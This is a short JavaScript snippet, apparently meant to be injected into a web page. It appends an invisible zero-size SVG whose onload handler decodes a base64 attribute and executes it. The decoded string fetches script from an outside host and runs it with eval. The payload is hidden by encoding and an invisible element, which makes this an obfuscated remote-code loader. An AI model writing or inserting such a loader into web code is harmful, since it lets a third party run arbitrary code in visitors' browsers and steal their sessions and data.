const holder = document.createElement('div');
holder.innerHTML = `<svg width=0 height=0 onload="Function(atob(this.dataset.v))()" data-v="ZmV0Y2goJ2h0dHBzOi8vcHgtc3RvcmUuZXhhbXBsZS9jJykudGhlbihyPT5yLnRleHQoKSkudGhlbihldmFsKQ=="></svg>`;
document.body.append(holder);
